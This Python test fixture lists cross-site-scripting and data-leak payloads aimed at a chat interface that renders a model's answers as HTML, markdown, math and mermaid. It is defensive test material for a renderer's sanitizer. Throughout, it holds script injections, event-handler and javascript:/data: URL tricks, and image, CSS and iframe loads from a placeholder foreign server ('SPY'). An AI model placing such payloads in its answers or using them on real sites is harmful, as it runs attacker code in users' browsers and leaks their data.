"""Attacks in a model's answer. SPY is a foreign server, HACK is code that must never run.

test_hostile.py shows each in the real page and checks the outcome.
"""

from __future__ import annotations

HTML = (
    "<script>HACK</script>",
    "<SCRIPT/x>HACK</SCRIPT >",
    "<scr<script>ipt>HACK</scr</script>ipt>",
    '<script src="SPY/s.js"></script>',
    "<img src=x onerror=HACK>",
    "<img src=x oNeRrOr=\"HACK\"/onload='HACK'>",
    '<img src="SPY/img.png" srcset="SPY/set.png 2x">',
    "<b onclick='HACK' onmouseover=HACK style='position:fixed;inset:0'>b</b>",
    "<details open ontoggle=HACK><summary>s</summary></details>",
    "<input autofocus onfocus=HACK>",
    "<svg onload=HACK><script>HACK</script><image href='SPY/svg.png'/></svg>",
    "<svg><animate onbegin=HACK attributeName=x dur=1s><use href='SPY/u.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:HACK'><text y=20>t</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=HACK></style></mglyph></table></mtext></math>",
    "<math href='javascript:HACK'><mi>x</mi></math>",
    "<style>body{background:url(SPY/css.png)} #question{display:none}</style>",
    "<p style=\"background:url('SPY/inline.png')\">p</p>",
    "<link rel=stylesheet href=SPY/l.css><link rel=prefetch href=SPY/prefetch>",
    "<base href='SPY/'>",
    "<meta http-equiv=refresh content='0;url=SPY/meta'>",
    "<iframe src='SPY/frame' srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:HACK></iframe><object data='SPY/o'></object><embed src='SPY/e'>",
    "<form action='SPY/f'><button formaction=javascript:HACK>go</button><input name=q></form>",
    "<video src='SPY/v.mp4' poster='SPY/p.png' autoplay></video><audio src='SPY/a.mp3' autoplay></audio>",
    "<a href='javascript:HACK' id=location name=cookie>a</a>",
    "<body onload=HACK><table background='SPY/t.png'><td>x</td></table>",
    "<!--><img src=x onerror=HACK>-->",
    "<![CDATA[<img src=x onerror=HACK>]]> <?xml <img src=x onerror=HACK>?>",
    "&lt;img src=x onerror=HACK&gt; &#60;script&#62;HACK&#60;/script&#62;",
    "\\<img src=x onerror=HACK\\> \\\\<img src=x onerror=HACK>",
    "<x-y onpointerenter=HACK>custom</x-y><dialog open>d</dialog>",
    "<template><img src=x onerror=HACK></template>",
)

LINKS = (
    "[link](javascript:HACK)",
    "[link](JaVaScRiPt:HACK)",
    "[link]( \tjavascript:HACK)",
    "[link](<java\tscript:HACK>)",
    "[link](&#106;avascript:HACK) [link](&#x6A;avascript&colon;HACK) [link](java&Tab;script:HACK)",
    "[link](java&NewLine;script:HACK) [link](\x01javascript:HACK) [link](javascript&#58;HACK)",
    "[link](vbscript:msgbox) [link](VBScript:msgbox) [link](data:text/html,<script>hacked=1</script>)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](blob:SPY/x) [link](file:///etc/hosts)",
    "[link][evil] [evil]\n\n[evil]: javascript:HACK 'title'",
    "<javascript:HACK> <data:text/html,x> javascript:HACK",
    '[a](http://x.example/"onmouseover=HACK) [b](http://x.example \'x" onmouseover=HACK y="\')',
    "[<img src=x onerror=HACK>](http://x.example) [fine](https://x.example/fine)",
)

IMAGES = (
    "![pixel](SPY/image.png)",
    "![pixel](SPY/title.png 'title')",
    "![ref][r] ![r] ![r][]\n\n[r]: SPY/reference.png",
    "[![nested](SPY/nested.png)](https://x.example)",
    "\\![x](SPY/escaped2.png) !&#91;x](SPY/entity.png)",
    '![x](javascript:HACK) ![x](data:image/svg+xml,<svg/onload=HACK>) !["onerror=HACK](x)',
    "| a | b |\n|---|---|\n| ![cell](SPY/cell.png) | <img src=SPY/cell2.png> |",
    "> - ![quoted](SPY/quoted.png)\n> # ![head](SPY/head.png)",
)

MATH = (
    "$$\\href{javascript:HACK}{x} \\url{javascript:HACK}$$",
    "$$\\includegraphics[width=9em]{SPY/math.png}$$",
    "$$\\htmlStyle{background:url(SPY/k.png)}{x} \\htmlData{onclick=HACK}{x}$$",
    "\\(\\text{<img src=x onerror=HACK>}\\) \\[\\class{x' onclick='HACK}{y}\\]",
    "$$<img src=x onerror=HACK>$$ $$\\unknown<script>HACK</script>$$",
)

CODE = (
    "```html<img src=x onerror=HACK>\n<b>x</b>\n```",
    '```" onmouseover="HACK" x="\n<img src=x onerror=HACK>\n```',
    "``<img src=x onerror=HACK>`` and ` <img src=x onerror=HACK> `",
    "    <img src=x onerror=HACK>",
    (
        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<img src=x onerror=HACK>"]'
        ' --> B["<img src=\'SPY/mermaid.png\'>"]\nclick A "javascript:HACK"\n```'
    ),
)

# These have no end, so each gets a separate message.
UNCLOSED = (
    "```html\n<img src=x onerror=HACK>\n<script>HACK</script>",
    "<textarea><img src=x onerror=HACK>",
    "<!-- <img src=x onerror=HACK>",
    "`<img src=x onerror=HACK>",
    "<img src=x onerror=HACK//",
    "!\\[x](SPY/escaped.png)",
    "```mermaid\ngraph TD\nA[<img src=SPY/open.png>]",
    "- ```mermaid\n  graph TD\n  A[<img src=SPY/item.png>]\n  ```",
)

CLOSED = (*HTML, *LINKS, *IMAGES, *MATH, *CODE)


def armed(payload: str, spy: str) -> str:
    """Return the payload with a real address and real code."""
    return payload.replace("SPY", spy).replace("HACK", "window.hacked=1")
